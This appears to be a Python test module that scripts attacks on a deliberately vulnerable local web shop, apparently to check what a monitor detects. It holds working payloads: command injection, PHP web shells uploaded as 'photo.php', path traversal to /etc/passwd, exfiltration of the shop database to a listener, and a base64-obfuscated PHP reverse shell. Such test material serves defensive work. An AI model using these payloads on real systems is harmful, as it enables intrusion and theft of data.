"""Break-ins into the web shop. Each ends with what the attacker wanted, or with AttackFailed."""

import base64
import random
import urllib.parse

from .attacker import Home
from .base import Attack, AttackFailed, Instance
from .http_client import Browser, fetch, must_show

SERVER = "process /usr/sbin/apache2"


def _reach(web: Instance, commands: str) -> tuple[int, bytes]:
    return fetch(web.port, "/index.php?do=reach&host=" + urllib.parse.quote(f"localhost; {commands}"))


def _upload(web: Instance, name: str, code: str) -> None:
    with Browser(web.port, random.Random(1)) as browser:
        browser.upload("/index.php?do=upload", "picture", name, f"<?php {code}".encode())


def inject_command(web: Instance) -> None:
    must_show(_reach(web, "id"), b"uid=33")


def inject_builtins(web: Instance) -> None:
    must_show(_reach(web, "while read -r line; do echo $line; done < /etc/passwd"), b"root:x:0")


def use_web_shell(web: Instance) -> None:
    _upload(web, "photo.php", "system($_GET['c']);")
    must_show(fetch(web.port, "/uploads/photo.php?c=uname%20-a"), b"Linux")


def use_silent_web_shell(web: Instance) -> None:
    _upload(web, "photo2.php", "foreach (scandir('/etc') as $f) echo $f, ' ', @filesize(\"/etc/$f\"), ' ';")
    must_show(fetch(web.port, "/uploads/photo2.php"), b"shadow")


def traverse(web: Instance) -> None:
    must_show(fetch(web.port, "/index.php?do=view&page=../../../etc/passwd"), b"root:x:0")


def read_sockets(web: Instance) -> None:
    """Which sockets there are; the worker's own environment is closed to it, since it was root."""
    must_show(fetch(web.port, "/index.php?do=view&page=../../../proc/net/tcp"), b"local_address")


def send_out(web: Instance) -> None:
    with Home() as home:
        code = ("$o = ['http' => ['method' => 'POST', 'content' => file_get_contents('/var/www/data/shop.db'), "
                f"'timeout' => 1]]; @file_get_contents('http://{home.host}:{home.port}/', false, "
                "stream_context_create($o));")
        _upload(web, "photo3.php", code)
        fetch(web.port, "/uploads/photo3.php")
        home.must_receive(b"SQLite format 3")


def reverse_shell(web: Instance) -> None:
    with Home(b"readfile('/etc/passwd');\n") as home:
        code = (f"$s = fsockopen('{home.host}', {home.port}); "
                "while ($c = fgets($s)) { ob_start(); eval($c); fwrite($s, ob_get_clean() . \"END\\n\"); }")
        packed = base64.b64encode(code.encode()).decode()
        _upload(web, "photo4.php", f"eval(base64_decode('{packed}'));")
        fetch(web.port, "/uploads/photo4.php")
        home.must_receive(b"root:x:0")


def guess_passwords(web: Instance) -> None:
    with Browser(web.port, random.Random(2)) as browser:
        for number in range(1000):
            status, _ = browser.post("/index.php?do=login", {"name": "ann", "password": f"guess{number}"})
            if status != 403:
                raise AttackFailed(f"status {status}")


ATTACKS = (
    Attack("command injection", "runs id through the page that looks up a host", inject_command,
           ("/usr/bin/id",), reliable=True),
    Attack("injection, builtins only", "the known shell, started as always, reads /etc/passwd itself", inject_builtins,
           ("/usr/bin/dash", "/etc/passwd")),
    Attack("web shell", "uploads PHP that runs commands; runs uname", use_web_shell, ("/usr/bin/uname",), reliable=True),
    Attack("web shell without programs", "uploads PHP that lists /etc", use_silent_web_shell,
           (SERVER,)),
    Attack("path traversal", "the page viewer reads /etc/passwd; no new program, no new call", traverse,
           ("/etc/passwd", SERVER), reliable=True),
    Attack("/proc/net/tcp", "the page viewer reads which sockets there are; no new program", read_sockets,
           ("/proc/net", SERVER)),
    Attack("data sent out", "uploaded PHP posts the database to another address; no new program", send_out,
           (SERVER,), reliable=True),
    Attack("reverse shell in process", "uploaded PHP evaluates what a remote host says", reverse_shell, (SERVER,),
           reliable=True),
    Attack("password guessing", "1000 wrong passwords for one user", guess_passwords, (SERVER,)),
)
